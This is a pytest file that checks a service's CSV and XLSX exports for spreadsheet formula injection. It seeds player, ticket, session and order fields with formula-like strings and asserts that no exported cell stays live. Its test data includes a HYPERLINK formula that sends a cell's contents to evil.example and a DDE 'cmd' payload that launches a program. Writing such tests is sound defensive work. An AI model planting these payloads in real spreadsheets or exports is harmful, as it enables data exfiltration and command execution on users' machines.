"""S16: what a spreadsheet would run as a formula is plain text in every export, and comes back as it was."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from chassis.jobs.running import work_off
from chassis.sheets.cells import as_meant, harmless
from tests.support.rows_in_suite import Rows
from tests.support.suite_in_process import InProcessSuite

NASTY = (
    "=1+1", "+8613800008000", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "＝1+1", "＋1",
    "－1", "＠x", "=HYPERLINK(\"//evil.example?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "\ufeff=1",
)  # fmt: skip
LIVE = "=+-@\t\r\n＝＋－＠"


def is_live(cell: str) -> bool:
    """Whether some spreadsheet would run the cell."""
    return cell.lstrip(" \u3000\ufeff")[:1] in LIVE and cell.strip() != ""


@pytest.mark.parametrize("text", NASTY)
def test_a_cell_is_made_harmless_and_read_back_as_it_was_meant(text: str):
    assert not is_live(harmless(text))
    assert as_meant(harmless(text)) == text


@pytest.mark.parametrize("text", ["", "昵称", "138****8000", "'quoted'", "a=b", "1.5", "😀"])
def test_other_text_stays_as_it_is(text: str):
    assert (harmless(text), as_meant(text)) == (text, text)


def cells_of(data: bytes, form: str) -> list[str]:
    """Every cell of a file."""
    if form == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0)
    return [cell for row in sheet.to_python() for cell in row if isinstance(cell, str)]


def fill(suite: InProcessSuite, rows: Rows) -> None:
    """Every text that people can type holds a formula."""
    agent, pack_no = suite.api("A001"), rows.shared["pack_on_sale"]["no"]
    for number, text in enumerate(NASTY):
        names: dict[str, Any] = {
            "nickname": text.strip(),
            "wechat_name": text.strip(),
            "note": text,
            "tags": [text.strip()],
        }
        player = agent.made("/players", {"wechat_id": f"=wx{number}s16", **names})["id"]
        ticket = agent.made("/tickets", {"player_id": player, "question": text})
        agent.post(f"/tickets/{ticket['id']}/start", version=ticket["version"])
        agent.post(f"/tickets/{ticket['id']}/complete", {"solution": text}, version=ticket["version"] + 1)
        agent.made("/sessions", {"player_id": player, "channel": "wechat", "contact": text.strip()})
        refused = {"channel": "wechat", "outcome": "refused", "lost_reason": "other", "note": text}
        agent.made("/touches", {"player_id": player, **refused})
        agent.made("/orders", {"player_id": player, "pack_no": pack_no, "note": text}, key=f"s16-{number}")


def test_no_cell_of_any_export_is_live(suite: InProcessSuite, rows: Rows, figure):
    fill(suite, rows)
    live, count = [], 0
    admin = suite.api("admin")
    for name in ("players", "tickets", "sessions", "touches", "orders"):
        for form in ("csv", "xlsx"):
            job = admin.made(f"/{name}/exports", {"format": form})
            for one in suite.services.values():
                while work_off(one.runtime):
                    pass
            answer = admin.get(f"/jobs/{job['id']}/result")
            assert answer.status_code == 200, answer.text
            cells = cells_of(answer.data, form)
            count += len(cells)
            live += [(name, form, cell) for cell in cells if is_live(cell)]
            quoted = [cell for cell in cells if cell.startswith("'")]
            assert len(quoted) >= len(NASTY) // 2, f"the formulas are not in the {form} of {name}: nothing was proved"
    figure("S16", cells=count, raw=len(live))
    assert not live
